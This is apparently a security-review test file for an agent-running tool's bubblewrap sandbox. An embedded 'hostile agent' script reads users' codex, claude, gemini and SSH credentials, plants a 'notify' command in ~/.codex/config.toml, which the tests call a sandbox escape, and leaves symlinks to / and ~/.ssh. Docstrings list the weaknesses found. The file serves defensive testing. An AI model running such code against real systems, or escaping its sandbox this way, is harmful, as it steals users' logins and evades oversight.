"""Review proofs (2026-12-06): per-backend credentials, env_from and config_home, attacked by a hostile
agent in the real sandbox (bubblewrap). The agent is a Python script run as the codex backend's command
(its config_home, sandbox_home and environment kept: [backends.codex] command replaced only).
Tests marked WEAKNESS fail on the code as reviewed; those marked SOUND pass and pin what holds."""

from __future__ import annotations

import json
import os
import secrets
import sys
import textwrap
from pathlib import Path

import pytest

from clude.config.settings import BackendConfig
from clude.sandbox import Sandbox, problem
from clude.team.backends import get_backend
from clude.team.backends.agent_files import KEPT_HOMES

HOSTILE = r'''
import json, os, pathlib
home = os.environ["HOME"]
out = {}
for rel in (".codex/auth.json", ".claude/.credentials.json", ".gemini/oauth_creds.json", ".ssh/id_ed25519"):
    try:
        out[rel] = open(os.path.join(home, rel)).read()
    except Exception as error:
        out[rel] = "ERR " + type(error).__name__
ch = pathlib.Path(os.environ["CODEX_HOME"])
out["codex_home"] = str(ch)
out["config"] = (ch / "config.toml").read_text()
out["beside_it"] = sorted(os.listdir(ch.parent))
for name in ("../a1.log", "../../work", "../../control"):
    try:
        out[name] = sorted(os.listdir(ch / name)) if (ch / name).is_dir() else (ch / name).read_text()
    except Exception as error:
        out[name] = "ERR " + type(error).__name__
try:  # the user's own codex (outside any sandbox) reads this: `notify` runs a program after each turn
    with open(os.path.join(home, ".codex", "config.toml"), "a") as f:
        f.write('notify = ["sh", "-c", "touch /tmp/clude-review-pwned"]\n')
    out["wrote_user_config"] = True
except Exception as error:
    out["wrote_user_config"] = "ERR " + type(error).__name__
os.symlink("/", ch / "root-link")                      # links left for the host to follow later
os.symlink(str(ch.parent), ch / "runs-link")
os.symlink(os.path.join(home, ".ssh"), ch / "ssh-link")
(ch / "sessions").mkdir(exist_ok=True)  # as codex's rollout would record a command that showed it
(ch / "sessions" / "rollout.jsonl").write_text(json.dumps({"output": os.environ["CODEX_API_KEY"]}) + "\n")
print(json.dumps({"type": "item.completed", "item": {"type": "agent_message", "text": os.environ["CODEX_API_KEY"]}}))
pathlib.Path("report.json").write_text(json.dumps(out))
'''


@pytest.fixture(scope="module")
def attack(tmp_path_factory):
    assert problem() is None, f"needs bubblewrap: {problem()}"
    tmp = tmp_path_factory.mktemp("review")
    home, worker, work = tmp / "home", tmp / "agents" / "a1", tmp / "agents" / "a1" / "work"
    made = {"codex": "codex-login-" + secrets.token_hex(12), "claude": "claude-login-" + secrets.token_hex(12),
            "gemini": "gemini-login-" + secrets.token_hex(12), "ssh": "ssh-" + secrets.token_hex(12)}
    for rel, value in ((".codex/auth.json", made["codex"]), (".claude/.credentials.json", made["claude"]),
                       (".gemini/oauth_creds.json", made["gemini"]), (".ssh/id_ed25519", made["ssh"])):
        (home / rel).parent.mkdir(parents=True, exist_ok=True)
        (home / rel).write_text(json.dumps({"token": value}))
    (home / ".codex" / "config.toml").write_text('model = "gpt-5"\n')
    work.mkdir(parents=True)
    (worker / "control").mkdir()
    (worker / "control" / "notes.txt").write_text("the worker's own clone")
    runs = worker / "runs"
    runs.mkdir()
    (runs / "T-0_attempt_1.log").write_text("an earlier run's log")
    script = tmp / "hostile.py"
    script.write_text(textwrap.dedent(HOSTILE))
    prompt = worker / "prompts" / "T-1_attempt_1.md"
    prompt.parent.mkdir()
    prompt.write_text("do the task")
    backend = get_backend("codex", {"codex": BackendConfig(command=[sys.executable, str(script)])})
    env = {"PATH": os.environ["PATH"], "HOME": str(home), "LANG": "C.UTF-8",
           "OPENAI_API_KEY": "sk-" + secrets.token_hex(20), "OPENAI_BASE_URL": "http://127.0.0.1:9/v1"}
    run = backend.run(prompt_file=prompt, workdir=work, task_id="T-1", agent_id="a1", env=env,
                      log_path=runs / "T-1_attempt_1.log", timeout_s=60,
                      sandbox=Sandbox(enabled=True, program="bwrap"), hidden=[worker])
    report = json.loads((work / "report.json").read_text()) if (work / "report.json").exists() else {}
    key = env["OPENAI_API_KEY"]  # where the key is on disk once the run is over (before any pruning)
    on_disk = [str(p) for p in runs.rglob("*")
               if p.is_file() and not p.is_symlink() and key in p.read_text(errors="replace")]
    return {"on_disk": on_disk, "run": run, "report": report, "made": made, "home": home, "runs": runs, "env": env,
            "backend": backend}


def test_weakness_a_codex_agent_with_its_own_codex_home_still_reads_the_users_codex_login(attack):
    """HIGH (sandbox_home predates this change; config_home makes it needless). With OPENAI_BASE_URL set
    the run's CODEX_HOME is runs/NAME.codex_home and ~/.codex is not read by codex, yet ~/.codex stays
    bound writable: the agent (driven by whatever model that server runs) reads the user's `codex
    login` tokens (~/.codex/auth.json: a ChatGPT account's refresh token) and can exfiltrate them."""
    report = attack["report"]
    assert report, f"the agent did not run: {attack['run']}"
    assert attack["made"]["codex"] not in report[".codex/auth.json"]


def test_weakness_a_codex_agent_can_plant_config_the_users_own_codex_runs_outside_the_sandbox(attack):
    """HIGH (a sandbox escape). ~/.codex/config.toml was writable from inside: `notify`, `mcp_servers` or
    a model provider planted there run or apply when the user next runs codex outside any sandbox. Mended
    where the run has a settings folder of its own (a base URL): the home folder is not bound then. Still
    open without one, for ~/.codex, ~/.claude and ~/.gemini alike (see docs/team.md)."""
    assert "notify" not in (attack["home"] / ".codex" / "config.toml").read_text()


def test_sound_other_backends_logins_and_worker_files_stay_out_of_reach(attack):
    """SOUND. Another backend's login (~/.claude, ~/.gemini), ~/.ssh, the sibling run logs, the
    worker's clones: none is visible from the writable CODEX_HOME (runs/ is a hidden tmpfs; only the
    run's own folder is bound into it)."""
    report, made = attack["report"], attack["made"]
    text = json.dumps(report)
    for name in ("claude", "gemini", "ssh"):
        assert made[name] not in text
    assert report["beside_it"] == ["T-1_attempt_1.codex_home"]
    assert all(str(report[n]).startswith("ERR") or report[n] == []
               for n in ("../a1.log", "../../work", "../../control")), report
    assert attack["env"]["OPENAI_API_KEY"] not in report["config"] and '"http://127.0.0.1:9/v1"' in report["config"]


def test_sound_pruning_never_follows_the_links_an_agent_left(attack):
    """SOUND. Older folders are removed by shutil.rmtree, which unlinks symlinks inside them without
    following; a link in place of a folder is skipped."""
    runs, home = attack["runs"], attack["home"]
    hostile = runs / "T-1_attempt_1.codex_home"
    assert not hostile.exists()  # removed when its run ended, its links unlinked, not followed
    assert (home / ".ssh" / "id_ed25519").exists() and (home / ".codex" / "auth.json").exists()
    hostile.mkdir()
    (hostile / "ssh-link").symlink_to(home / ".ssh")  # a leftover of a worker killed mid-run
    (runs / "Z_attempt_0.codex_home").symlink_to(home / ".ssh")  # were one there: never removed through
    spec = attack["backend"].spec.config_home
    for n in range(KEPT_HOMES + 1):
        log = runs / f"U-{n}_attempt_1.log"
        spec.write({"OPENAI_BASE_URL": "http://h/v1"}, log)
        os.utime(log.with_name(f"{log.stem}.codex_home"), (2e9 + n, 2e9 + n))
    assert not hostile.exists()
    assert (home / ".ssh" / "id_ed25519").exists() and (home / ".codex" / "auth.json").exists()
    assert (runs / "T-0_attempt_1.log").exists()


def test_weakness_a_login_stands_for_the_key_even_where_the_run_cannot_use_it(tmp_path):
    """MEDIUM (functional). `codex login` (~/.codex/auth.json) satisfies required_env, but with
    OPENAI_BASE_URL set the run's CODEX_HOME holds no login and its provider reads CODEX_API_KEY, which
    is unset: check() passes, every attempt then fails inside codex. Same for gemini: oauth_creds.json
    passes the check, and GOOGLE_GEMINI_BASE_URL's settings.json selects gemini-api-key with no key."""
    home = tmp_path / "home"
    for rel in (".codex/auth.json", ".gemini/oauth_creds.json"):
        (home / rel).parent.mkdir(parents=True, exist_ok=True)
        (home / rel).write_text("{}")
    for name, base in (("codex", "OPENAI_BASE_URL"), ("gemini", "GOOGLE_GEMINI_BASE_URL")):
        env = {"HOME": str(home), "PATH": os.environ["PATH"], base: "http://127.0.0.1:9/v1"}
        missing = [p for p in get_backend(name).check(env) if p.kind == "missing_env"]
        assert missing, f"{name}: a login the run will not read stood for the key"


def test_weakness_the_run_folder_kept_beside_the_logs_is_never_redacted(attack):
    """MEDIUM. The run's log is redacted once it ends; its config_home is not, and is kept (the newest
    KEPT_HOMES) beside the logs: what codex records there (sessions/rollout-*.jsonl: every command and
    its output, e.g. a /proc/1/environ the agent read; gemini's GEMINI_CLI_HOME/.gemini/tmp likewise)
    stays on disk with the key. Emulated: the agent writes CODEX_API_KEY where codex's rollout goes,
    and prints it (the log: redacted)."""
    key, runs = attack["env"]["OPENAI_API_KEY"], attack["runs"]
    assert key not in (runs / "T-1_attempt_1.log").read_text()  # the log is redacted
    assert not attack["on_disk"], attack["on_disk"]


def test_weakness_credentials_in_the_base_url_are_written_to_the_config_home(tmp_path):
    """LOW. A base URL carrying credentials (https://user:KEY@gateway/v1, or ?api-key=) is written
    verbatim into runs/NAME.codex_home/config.toml; the logs show such a URL as ://[redacted]@."""
    spec = get_backend("codex").spec.config_home
    secret = "s3cr3t-" + secrets.token_hex(10)
    made = spec.write({"OPENAI_BASE_URL": f"https://bob:{secret}@gateway.example/v1"}, tmp_path / "T_attempt_1.log")
    assert secret not in (Path(made["CODEX_HOME"]) / "config.toml").read_text()
